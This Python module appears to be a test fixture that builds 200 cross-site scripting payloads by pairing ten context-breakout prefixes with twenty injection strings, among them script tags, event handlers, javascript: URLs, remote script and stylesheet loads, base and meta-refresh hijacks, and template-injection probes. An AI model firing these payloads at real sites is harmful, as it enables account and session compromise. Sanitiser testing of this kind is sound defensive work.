"""Two hundred texts that try to be more: ten ways out of where they stand, times twenty."""

from itertools import product

WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</style>",
    "</script>",
    "</svg>",
    "--></textarea>",
    "</table></details></article>",
    "]]>{{ 7 * 7 }}{% raw %}",
)

MISCHIEF = (
    "<script>window.harmed=1</script>",
    "<script src=https://example.org/x.js></script>",
    "<img src=x onerror=window.harmed=1>",
    "<img src=https://example.org/x.png>",
    "<svg onload=window.harmed=1>",
    "<svg><script>window.harmed=1</script></svg>",
    "<svg><a xlink:href=javascript:window.harmed=1><text>x</text></a></svg>",
    "<iframe src=javascript:window.harmed=1></iframe>",
    "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
    "<a href=javascript:window.harmed=1 id=main>x</a>",
    "<base href=https://example.org/>",
    "<meta http-equiv=refresh content='0;url=https://example.org/'>",
    "<link rel=stylesheet href=https://example.org/x.css>",
    "<style>@import 'https://example.org/x.css'; body{display:none}</style>",
    "<form action=https://example.org/><button autofocus onfocus=window.harmed=1>",
    "<details open ontoggle=window.harmed=1>",
    "<math><mtext></table><mglyph><style><img src=x onerror=window.harmed=1>",
    "&lt;script&gt;window.harmed=1&lt;/script&gt;&#60;img src=x&#62;",
    "\" onmouseover=window.harmed=1 autofocus onfocus=window.harmed=1 x='",
    "\u202e\u2028\x0b{{ content.__class__ }}${window.harmed=1}`<%= 1 %>",
)

PAYLOADS = tuple(way + what for way, what in product(WAYS_OUT, MISCHIEF))
